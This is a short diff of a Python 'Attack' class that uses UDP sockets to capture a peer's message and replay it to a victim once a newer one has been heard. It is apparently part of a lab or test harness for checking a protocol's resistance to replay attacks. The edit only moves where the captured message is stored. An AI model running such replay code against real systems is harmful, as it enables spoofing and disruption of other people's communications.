@@ -35,7 +35,6 @@ class Attack:
         self.asking = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
         for each in (self.rip, self.asking):
             each.settimeout(PATIENCE)
-        self.recorded = self.overheard()
 
     # What is sent
 
@@ -125,10 +124,11 @@ class Attack:
 
     def replay(self, times):
         """An old message of the peer's, once the victim has heard a later one."""
-        while self.overheard()[12:16] <= self.recorded[12:16]:
+        recorded = self.overheard()
+        while self.overheard()[12:16] <= recorded[12:16]:
             pass
         for _ in range(times):
-            self.send("replayed", self.recorded, self.peer)
+            self.send("replayed", recorded, self.peer)
 
     def count(self, number):
         for n in range(number):
